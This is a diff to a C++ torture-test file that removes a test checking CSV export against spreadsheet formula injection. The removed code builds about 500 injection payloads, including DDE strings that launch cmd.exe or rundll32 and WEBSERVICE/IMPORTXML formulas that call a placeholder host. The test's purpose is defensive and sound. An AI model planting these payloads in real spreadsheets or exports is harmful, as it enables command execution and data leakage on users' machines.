@@ -1,16 +1,14 @@
 // SPDX-FileCopyrightText: 2026 The Insurable authors
 // SPDX-License-Identifier: GPL-3.0-or-later
 //
-// Files, names and cells from somebody who means ill, and clocks that do.
+// Files and names from somebody who means ill, and clocks that do.
 #include "asset.h"
 #include "check.h"
 #include "checker.h"
 #include "evidence.h"
 #include "historychain.h"
-#include "importplan.h"
 #include "ordeals.h"
 #include "progress.h"
-#include "recordexport.h"
 #include "session.h"
 
 #include <QBuffer>
@@ -337,94 +335,6 @@ private:
     int m_groups = 0;
 };
 
-class Formulas final : public Ordeal
-{
-public:
-    QString name() const override { return u"formulas"_s; }
-    QString goal() const override { return u"S13: 500 payloads: none runs, all come back"_s; }
-    int seconds(bool) const override { return 60; }
-
-    void run(const Plan &, Tally &tally) override
-    {
-        QTemporaryDir folder;
-        const Yard yard(folder.path());
-        makeFirm(m_tools, yard);
-        Worker worker(m_tools, yard, dataKeyOf(m_tools, yard.vault()));
-        Isms &isms = worker.isms();
-        NoProgress progress;
-        const QStringList all = payloads();
-        QList<AnyRecord> records;
-        for (qsizetype i = 0; i < all.size(); ++i) {
-            Asset asset;
-            asset.id = Id::from(u"f%1"_s.arg(i));
-            asset.name = u"Formula"_s;
-            asset.notes = all[i];
-            records.append(AnyRecord(asset));
-        }
-        isms.apply(u"formulas"_s, records, progress);
-        QBuffer out;
-        out.open(QIODevice::WriteOnly);
-        (void)writeRecords(isms, describe<Asset>(), ExchangeFormat::Csv, out, progress);
-        CsvLimits limits;
-        CsvReader reader(out.data(), limits);
-        QStringList cells;
-        while (reader.next(cells)) {
-            for (const QString &cell : cells) {
-                if (!cell.isEmpty() && u"=+-@\t\r\n＝＋－＠"_s.contains(cell.front()))
-                    tally.miss(u"a cell begins with “%1”"_s.arg(cell.left(10)));
-            }
-        }
-        const ImportPlan plan =
-            planImportOf(out.data(), isms, describe<Asset>(), ExchangeFormat::Csv, progress);
-        if (!plan.isClean() || plan.added + plan.updated > 0)
-            tally.miss(u"%1 rows came back otherwise"_s.arg(plan.added + plan.updated));
-        tally.cycles = all.size();
-        if (all.size() < 500)
-            tally.miss(u"too few payloads"_s);
-    }
-
-private:
-    static QStringList payloads()
-    {
-        const QStringList starts{u"="_s,  u"+"_s,  u"-"_s,   u"@"_s,   u"\t="_s, u"=="_s,  u"=+"_s,
-                                 u"+-"_s, u"'="_s, u"''="_s, u"\"="_s, u";="_s,  u",="_s,  u" ="_s,
-                                 u"＝"_s, u"＋"_s, u"－"_s,  u"＠"_s,  u"\n="_s, u"x\n="_s};
-        const QStringList rests{u"cmd|' /C calc'!A0"_s,
-                                u"1+1"_s,
-                                u"HYPERLINK(\"http://x\",\"y\")"_s,
-                                u"WEBSERVICE(\"http://x\")"_s,
-                                u"SUM(1+1)*cmd|' /C calc'!A0"_s,
-                                u"IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")"_s,
-                                u"DDE(\"cmd\";\"/C\")"_s,
-                                u"MSEXCEL|'\\..\\..\\cmd.exe'!''"_s,
-                                u"rundll32|'URL.dll'!A"_s,
-                                u"A1"_s,
-                                u"\"=1+1"_s,
-                                u"'"_s,
-                                u"''"_s,
-                                u"\t"_s,
-                                u"=1,=2"_s,
-                                u"@SUM(1)"_s,
-                                u"-2+3"_s,
-                                u"IMAGE(\"http://x\")"_s,
-                                u"FILTERXML(\"<a/>\",\"//a\")"_s,
-                                u"INDIRECT(\"A1\")"_s,
-                                u"CALL(\"x\")"_s,
-                                u"EXEC(\"calc\")"_s,
-                                u"REGISTER.ID(\"k\",\"W\")"_s,
-                                u"IMPORTFEED(\"http://x\")"_s,
-                                u"CELL(\"filename\")"_s};
-        QStringList all;
-        for (const QString &start : starts) {
-            for (const QString &rest : rests)
-                all.append(start + rest);
-        }
-        return all;
-    }
-
-    Tools m_tools;
-};
-
 } // namespace
 
 std::unique_ptr<Ordeal> makeHostileVaults()
@@ -435,11 +345,6 @@ std::unique_ptr<Ordeal> makeHostileVaults()
 std::unique_ptr<Ordeal> makeHostileNames()
 {
     return std::make_unique<HostileNames>();
-}
-
-std::unique_ptr<Ordeal> makeFormulas()
-{
-    return std::make_unique<Formulas>();
 }
 
 } // namespace insurable::torture
